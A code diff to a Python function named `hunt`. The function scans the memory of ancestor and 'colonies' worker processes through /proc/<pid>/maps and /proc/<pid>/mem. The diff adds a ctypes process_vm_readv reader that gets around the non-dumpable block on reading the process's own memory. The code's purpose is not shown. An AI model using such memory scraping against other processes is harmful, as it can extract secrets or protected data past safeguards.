@@ -74,6 +74,29 @@ def hunt(targets, directories, colonyname, ctx={}):  # noqa: B006 - shipped code
         stat = read(f"/proc/{pid}/stat") or b") ? 0"
         pid = stat.rsplit(b")", 1)[1].split()[1].decode()
     colonies = {p for p in pids if b"colonies" in (read(f"/proc/{p}/cmdline") or b"")}
+    import ctypes
+    import io
+
+    class IoVec(ctypes.Structure):
+        _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
+
+    libc = ctypes.CDLL(None, use_errno=True)
+
+    class OwnMemory(io.RawIOBase):
+        """This process's memory through process_vm_readv: a warm worker is not dumpable, so even
+        its own /proc/self/mem is refused to it (its siblings cannot read it either)."""
+
+        def seek(self, offset, whence=0):
+            self.at = offset
+
+        def read(self, size=-1):
+            buffer = ctypes.create_string_buffer(size)
+            local, remote = IoVec(ctypes.cast(buffer, ctypes.c_void_p), size), IoVec(self.at, size)
+            got = libc.process_vm_readv(os.getpid(), ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
+            if got < 0:
+                raise OSError(ctypes.get_errno(), "process_vm_readv")
+            return buffer.raw[:got]
+
     for pid in ancestors | colonies:
         maps = read(f"/proc/{pid}/maps", 1 << 24)
         if maps is None:
@@ -81,7 +104,9 @@ def hunt(targets, directories, colonyname, ctx={}):  # noqa: B006 - shipped code
         try:
             memory = open(f"/proc/{pid}/mem", "rb")  # noqa: SIM115
         except OSError:
-            continue
+            if pid != "self":
+                continue
+            memory = OwnMemory()
         with memory:
             for line in maps.decode().splitlines():
                 fields = line.split()
